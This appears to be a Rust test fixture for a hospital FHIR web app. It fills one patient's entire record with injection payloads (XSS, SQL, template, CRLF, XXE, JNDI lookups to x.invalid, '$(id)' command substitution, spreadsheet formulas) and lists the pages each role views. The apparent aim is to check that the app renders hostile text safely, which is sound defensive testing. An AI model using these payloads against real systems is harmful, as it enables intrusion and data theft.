//! Texts that mean to be more than texts, and a patient in whose record everything says one of them.

use crate::harness::data::{bundle, entry, patient_with};
use crate::harness::{fhir, unique};
use serde_json::{Value, json};

/// A text of each kind; every one has words of its own.
pub fn payloads() -> Vec<String> {
    let long = format!("Hipo{}fobia75", "potomonstrosesquipedalio".repeat(60));
    let fixed = [
        "<script>alert('p1')</script>",
        "<script src=//x.invalid/p2.js>",
        "</title><script>alert('p3')</script>",
        "</textarea><script>alert('p4')</script>",
        "</option></select><img src=x onerror=alert('p5')>",
        "<img src=x onerror=alert('p6')>",
        "\" onmouseover=\"alert('p7')",
        "' onfocus='alert(\"p8\")' autofocus='",
        "x onload=alert(9) p9",
        "\"><svg/onload=alert('p10')>",
        "<svg><animate onbegin=alert('p11') attributeName=x dur=1s>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('p12')>",
        "<iframe srcdoc=\"<script>alert('p13')</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert('p14')</script>\"></object>",
        "javascript:alert('p15')",
        "JaVaScRiPt&colon;alert('p16')",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgncDE3Jyk8L3NjcmlwdD4=",
        "vbscript:msgbox(\"p18\")",
        "[p19](javascript:alert(19))",
        "<style>*{display:none}/*p20*/</style>",
        "p21\" style=\"background:url(//x.invalid)",
        "}*{color:red}/*p22",
        "<meta http-equiv=refresh content=\"0;url=//x.invalid/p23\">",
        "<base href=//x.invalid/p24>",
        "</form><form action=//x.invalid/p25><input name=clave>",
        "\"><input type=hidden name=csrf value=p26>",
        "--><script>alert('p27')</script><!--",
        "<![CDATA[<script>alert('p28')</script>]]>",
        "<?php echo 'p29' ?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///p30\">]>&e;",
        "&lt;script&gt;alert('p31')&lt;/script&gt;",
        "&#60;script&#62;alert('p32')&#x3c;/script&#x3e;",
        "&ltscript&gtalert('p33')&amp;amp;",
        "{{page.csrf}} p34",
        "{{{page.csrf}}} p35",
        "{{#each this}}{{@key}}p36{{/each}}",
        "{{> keys page}} p37",
        "{{{{raw}}}}p38{{{{/raw}}}}",
        "{{lookup . \"constructor\"}} p39",
        "{{t \"login.title\"}}{{icon \"plus\"}}{{! p40 }}",
        "${7*7}#{7*7}p41",
        "{% include \"p42\" %}<%= 7*7 %>[[${7*7}]]",
        "{name} {n} {text} {time} {low} p43",
        "%s%n%x%25p44",
        "\u{202E}p45 derecha a izquierda",
        "p46 \u{2067}\u{202B}sin cerrar",
        "p47\u{200E}\u{200F}\u{61C}marcas",
        "p48 a\u{200B}b\u{200C}c\u{200D}d\u{FEFF}e",
        "p49 uno\u{2028}dos\u{2029}tres",
        "p50\r\nSet-Cookie: inyectada=1\r\n\r\n<b>negrita</b>",
        "p51\tuno\n\n\ndos",
        "p52 Z\u{337}\u{351}\u{342}a\u{338}l\u{335}g\u{336}o\u{337}",
        "p53 \u{1F469}\u{1F3FD}\u{200D}\u{2695}\u{FE0F} \u{FFFD}",
        "\u{FF1C}script\u{FF1E}alert('p54')\u{FF1C}/script\u{FF1E}",
        "+ADw-script+AD4-alert('p55')+ADw-/script+AD4-",
        ") Tj ET Q BT (p56",
        "\\) \\( \\051 >> p57 endstream endobj",
        "%PDF-1.4 1 0 obj << /JS (app.alert('p58')) /OpenAction 2 0 R >>",
        "<48656C6C6F> Tj p59 /JavaScript",
        "\\\\ \\u003cscript\\u003e \\x3cscript p60",
        "'; drop table resource; -- p61",
        "\" or \"p62\"=\"p62\" $$;select pg_sleep(1);$$",
        "%_\\ p63",
        "=HYPERLINK(\"http://x.invalid\";\"p64\")",
        "@SUM(1+1)*cmd|' /C p65'!A0",
        "a|b^c~d\\e&f p66",
        "\\F\\ \\S\\ \\T\\ \\R\\ \\E\\ \\X0D\\ \\.br\\ p67",
        "\"},{\"p68\":\"x\"}]",
        "]]></p69>",
        "../../../../etc/p70",
        "//x.invalid/%2e%2e/p71",
        "p72\nlevel=error msg=falsa",
        "$(id) `id` | ; && p73",
        "${jndi:ldap://x.invalid/p74}",
        "a,b|c$d\\,e p76",
    ];
    fixed.into_iter().map(str::to_owned).chain([long]).collect()
}

pub const PLAIN: &str = "Texto llano";
fn concept(text: &str) -> Value {
    json!({"coding": [{"system": "urn:x", "code": "x", "display": text}], "text": text})
}

fn category(code: &str) -> Value {
    json!([{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/observation-category", "code": code}]}])
}

/// One patient in whose record everything says this.
pub struct Record {
    pub id: String,
    pub number: String,
    pub text: String,
}

impl Record {
    pub fn of(&self, kind: &str) -> String {
        format!("{}-{kind}", self.id)
    }

    fn person(&self) -> Vec<Value> {
        let t = self.text.as_str();
        let mut patient = patient_with(&self.number);
        patient["id"] = self.id.as_str().into();
        patient["name"] = json!([{"use": "official", "family": t, "given": [t, t], "prefix": [t], "text": t}]);
        patient["identifier"].as_array_mut().unwrap().push(json!({"type": concept(t), "value": t}));
        patient["telecom"] = json!([{"system": "phone", "value": t}, {"system": "email", "value": t}]);
        patient["address"] = json!([{"line": [t, t], "city": t, "district": t, "state": t, "country": t, "text": t}]);
        patient["maritalStatus"] = concept(t);
        patient["contact"] =
            json!([{"name": {"family": t, "given": [t]}, "relationship": [concept(t)], "telecom": [{"value": t}]}]);
        patient["communication"] = json!([{"language": concept(t)}]);
        let named = |kind: &str| json!({"resourceType": kind, "id": self.of(kind), "name": t});
        let practitioner = json!({"resourceType": "Practitioner", "id": self.of("Practitioner"), "name": [{"family": t, "given": [t]}]});
        vec![patient, practitioner, named("Organization"), named("Location")]
    }

    fn refer(&self, kind: &str) -> Value {
        json!({"reference": format!("{kind}/{}", self.of(kind)), "display": self.text})
    }

    fn visits(&self) -> Vec<Value> {
        let (t, subject) = (self.text.as_str(), self.subject());
        let stay = |id: &str, status: &str, class: &str| {
            json!({
                "resourceType": "Encounter", "id": self.of(id), "status": status, "subject": subject,
                "class": {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": class, "display": t},
                "type": [concept(t)], "serviceType": concept(t), "priority": concept(t), "reasonCode": [concept(t)],
                "participant": [{"individual": self.refer("Practitioner")}, {"individual": {"display": t}}],
                "location": [{"location": self.refer("Location"), "status": "active"}, {"location": {"display": t}, "status": "completed"}],
                "serviceProvider": self.refer("Organization"), "period": {"start": "2024-05-06T07:00:00-05:00"},
                "hospitalization": {"admitSource": concept(t), "dischargeDisposition": concept(t)}
            })
        };
        let cover = json!({
            "resourceType": "Coverage", "id": self.of("Coverage"), "status": "active", "beneficiary": subject, "type": concept(t),
            "payor": [{"display": t}], "subscriberId": t, "class": [{"type": concept(t), "value": t, "name": t}]
        });
        vec![
            stay("open", "in-progress", "IMP"),
            stay("done", "finished", "AMB"),
            stay("planned", "planned", "AMB"),
            cover,
        ]
    }

    fn subject(&self) -> Value {
        json!({"reference": format!("Patient/{}", self.id), "display": self.text})
    }

    fn history(&self) -> Vec<Value> {
        let (t, subject) = (self.text.as_str(), self.subject());
        let note = json!([{"text": t, "authorString": t}]);
        let by = json!({"actor": self.refer("Practitioner")});
        let file = json!({"title": t, "contentType": "text/plain", "url": "javascript:alert(1)"});
        let mut all = vec![
            json!({"resourceType": "Condition", "subject": subject, "code": concept(t), "severity": concept(t), "bodySite": [concept(t)],
                "stage": [{"summary": concept(t)}], "recorder": self.refer("Practitioner"), "note": note, "onsetString": t}),
            json!({"resourceType": "AllergyIntolerance", "patient": subject, "code": concept(t), "note": note,
                "reaction": [{"substance": concept(t), "manifestation": [concept(t)], "description": t}]}),
            json!({"resourceType": "MedicationRequest", "status": "active", "intent": "order", "subject": subject, "note": note,
                "medicationCodeableConcept": concept(t), "requester": {"display": t}, "reasonCode": [concept(t)], "statusReason": concept(t),
                "dosageInstruction": [{"text": t, "patientInstruction": t, "route": concept(t), "timing": {"code": concept(t)}}]}),
            json!({"resourceType": "MedicationStatement", "status": "active", "subject": subject, "medicationCodeableConcept": concept(t),
                "dosage": [{"route": concept(t), "timing": {"code": concept(t)}, "doseAndRate": [{"doseQuantity": {"value": 1, "unit": t}}]}]}),
            json!({"resourceType": "Procedure", "status": "completed", "subject": subject, "code": concept(t), "performer": [by], "note": note,
                "bodySite": [concept(t)], "outcome": concept(t), "reasonCode": [concept(t)], "location": {"display": t}, "performedString": t}),
            json!({"resourceType": "Immunization", "status": "completed", "patient": subject, "vaccineCode": concept(t), "lotNumber": t,
                "occurrenceString": t, "site": concept(t), "performer": [by], "note": note, "protocolApplied": [{"doseNumberString": t}]}),
            json!({"resourceType": "ServiceRequest", "status": "active", "intent": "order", "subject": subject, "code": concept(t), "note": note,
                "category": category("laboratory"), "patientInstruction": t, "reasonCode": [concept(t)], "requester": {"display": t}, "orderDetail": [concept(t)]}),
            json!({"resourceType": "DiagnosticReport", "status": "final", "subject": subject, "code": concept(t), "conclusion": t,
                "conclusionCode": [concept(t)], "performer": [{"display": t}], "resultsInterpreter": [{"display": t}], "presentedForm": [file],
                "result": [{"reference": format!("Observation/{}", self.of("lab")), "display": t}]}),
            json!({"resourceType": "DocumentReference", "status": "current", "subject": subject, "type": concept(t), "description": t,
                "author": [{"display": t}], "custodian": {"display": t}, "content": [{"attachment": file}]}),
            json!({"resourceType": "FamilyMemberHistory", "status": "completed", "patient": subject, "name": t, "relationship": concept(t),
                "condition": [{"code": concept(t), "outcome": concept(t)}], "note": note}),
            json!({"resourceType": "CarePlan", "status": "active", "intent": "plan", "subject": subject, "title": t, "description": t,
                "activity": [{"detail": {"status": "in-progress", "code": concept(t), "description": t}}]}),
            json!({"resourceType": "Goal", "lifecycleStatus": "active", "subject": subject, "description": concept(t)}),
            json!({"resourceType": "Flag", "status": "active", "subject": subject, "code": concept(t)}),
        ];
        for resource in &mut all {
            let kind = resource["resourceType"].as_str().unwrap().to_owned();
            resource["id"] = self.of(&kind).into();
        }
        all
    }

    fn observations(&self) -> Vec<Value> {
        let (t, subject) = (self.text.as_str(), self.subject());
        let one = |id: &str, status: &str, kind: &str, value: Value| {
            let mut one = json!({
                "resourceType": "Observation", "id": self.of(id), "status": status, "subject": subject, "code": concept(t),
                "category": category(kind), "effectiveDateTime": "2024-05-06T07:08:09-05:00", "method": concept(t),
                "performer": [{"display": t}], "note": [{"text": t, "authorString": t}], "bodySite": concept(t), "device": {"display": t},
                "interpretation": [concept(t)], "referenceRange": [{"low": {"value": 1, "unit": t}, "high": {"value": 3, "unit": t}, "text": t}]
            });
            value.as_object().unwrap().iter().for_each(|(name, value)| one[name] = value.clone());
            one
        };
        let amount = json!({"valueQuantity": {"value": 2.5, "unit": t}});
        let mut earlier = one("before", "final", "laboratory", amount.clone());
        earlier["effectiveDateTime"] = "2024-01-06T07:08:09-05:00".into();
        vec![
            one("lab", "final", "laboratory", amount.clone()),
            earlier,
            one("waiting", "preliminary", "laboratory", amount.clone()),
            one("words", "final", "laboratory", json!({"valueString": t})),
            one("coded", "final", "laboratory", json!({"valueCodeableConcept": concept(t)})),
            one("absent", "final", "laboratory", json!({"dataAbsentReason": concept(t)})),
            one("sign", "final", "vital-signs", amount.clone()),
            one("social", "final", "social-history", json!({"component": [{"code": concept(t), "valueString": t}]})),
        ]
    }

    /// Writes everything in one transaction.
    pub async fn store(text: String) -> Record {
        let record = Record { id: format!("inerte{}", unique()), number: unique(), text };
        let all = [record.person(), record.visits(), record.history(), record.observations()].concat();
        let entries = all.into_iter().map(|resource| {
            let url = format!("{}/{}", resource["resourceType"].as_str().unwrap(), resource["id"].as_str().unwrap());
            entry("PUT", &url, None, Some(resource))
        });
        fhir("integracion").await.post("", &bundle("transaction", entries.collect())).await.expect(200);
        record
    }

    /// The pages that show it: role and address.
    pub fn pages(&self) -> Vec<(&'static str, String)> {
        let (id, number) = (&self.id, &self.number);
        let entry = |kind: &str, id: &str| format!("/paciente/{}/registro/{kind}/{}", self.id, self.of(id));
        let mut medico = vec![
            format!("/medico?q={number}"),
            format!("/paciente/{id}"),
            format!("/paciente/{id}?todo=1"),
            format!("/paciente/{id}/agregar"),
            format!("/paciente/{id}/signos"),
            format!("/paciente/{id}/observacion"),
            format!("/paciente/{id}/observacion?codigo=2823-3"),
            format!("/paciente/{id}/problema"),
            format!("{}/corregir", entry("Observation", "lab")),
            format!("{}/corregir", entry("Observation", "words")),
            format!("{}/corregir", entry("Condition", "Condition")),
        ];
        medico.extend(["lab", "words", "coded", "absent", "sign", "social"].map(|one| entry("Observation", one)));
        let kinds = ["Condition", "AllergyIntolerance", "MedicationRequest", "MedicationStatement", "Procedure"];
        medico.extend(kinds.map(|kind| entry(kind, kind)));
        let kinds = ["Immunization", "ServiceRequest", "DiagnosticReport", "DocumentReference"];
        medico.extend(kinds.map(|kind| entry(kind, kind)));
        medico.push(entry("Encounter", "open"));
        let of = |id: &str, what: &str| format!("/admision/encuentro/{}/{what}", self.of(id));
        let admission = [
            format!("/admision?q={number}"),
            format!("/admision/paciente/{id}"),
            format!("/admision/paciente/{id}/datos"),
            format!("/admision/paciente/{id}/ingresar"),
            of("open", "trasladar"),
            of("open", "egresar"),
            of("open", "cancelar"),
            of("planned", "ingresar"),
            format!("/paciente/{id}"),
        ];
        let laboratory = vec![
            format!("/resultados/orden/{}", self.of("ServiceRequest")),
            format!("/resultados/nuevo/{id}?codigo=2823-3"),
            format!("/resultados/{}", self.of("waiting")),
            format!("/resultados/{}", self.of("lab")),
            format!("/paciente/{id}"),
        ];
        let own = [
            "/mi-historia".to_owned(),
            "/mi-historia/resultados".to_owned(),
            format!("/mi-historia/resultados/{}/0", self.of("lab")),
            "/mi-historia/visitas".to_owned(),
            "/mi-historia/accesos".to_owned(),
        ];
        let all = medico.into_iter().map(|page| ("medico", page));
        let all = all.chain(admission.into_iter().map(|page| ("admisionista", page)));
        let all = all.chain(laboratory.into_iter().map(|page| ("resultados", page)));
        all.chain(own.into_iter().map(|page| ("paciente", page))).collect()
    }
}
